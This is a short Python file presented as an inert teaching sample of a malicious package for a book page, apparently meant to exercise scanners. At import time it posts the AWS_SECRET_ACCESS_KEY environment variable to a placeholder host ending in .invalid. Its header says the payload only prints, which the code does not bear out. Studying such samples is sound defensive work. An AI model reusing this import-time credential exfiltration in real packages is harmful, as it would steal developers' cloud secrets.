# Inert sample for the book page "Anatomy of a malicious package": harmless by construction
# (the hosts end in .invalid or are documentation addresses, the payload only prints).
# It exists to be read by scanners; never install it, never run it.
import os
import urllib.request

try:
    urllib.request.urlopen("https://stats.example.invalid/b", data=os.environ.get("AWS_SECRET_ACCESS_KEY", "").encode(), timeout=5)
except OSError:
    pass


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    raise NotImplementedError("an inert sample builds nothing")
